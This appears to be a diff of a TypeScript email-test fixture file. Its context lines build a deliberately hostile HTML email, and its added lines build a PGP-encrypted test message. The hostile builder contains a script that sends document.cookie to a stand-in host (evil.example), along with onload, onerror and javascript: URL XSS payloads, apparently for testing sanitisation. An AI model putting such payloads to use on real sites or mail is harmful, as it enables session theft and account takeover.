@@ -131,3 +131,32 @@ export function hostileHtml(body: string): Built {
   const html = `<html><head><script>fetch('https://evil.example/'+document.cookie)</script><style>p{display:none}</style></head><body onload="alert(1)"><img src=x onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe><p>${body}</p><a href="javascript:void(0)">click</a></body></html>`;
   return multipart([crlf(['Content-Type: text/html; charset=utf-8', '', html])], { contentType: 'multipart/alternative', subject: 'Read this' });
 }
+
+export function encryptedMessage(): Built {
+  const messageId = `<${randomUUID()}@sender.example>`;
+  const boundary = `enc-${randomUUID()}`;
+  return {
+    messageId,
+    raw: crlf([
+      'From: resident@sender.example',
+      'To: alice@council.example',
+      'Subject: ...',
+      `Message-ID: ${messageId}`,
+      'MIME-Version: 1.0',
+      `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="${boundary}"`,
+      '',
+      `--${boundary}`,
+      'Content-Type: application/pgp-encrypted',
+      '',
+      'Version: 1',
+      `--${boundary}`,
+      'Content-Type: application/octet-stream',
+      '',
+      '-----BEGIN PGP MESSAGE-----',
+      'hQEMA1234567890abcdefghijklmnopqrstuvwxyz',
+      '-----END PGP MESSAGE-----',
+      `--${boundary}--`,
+      '',
+    ]),
+  };
+}
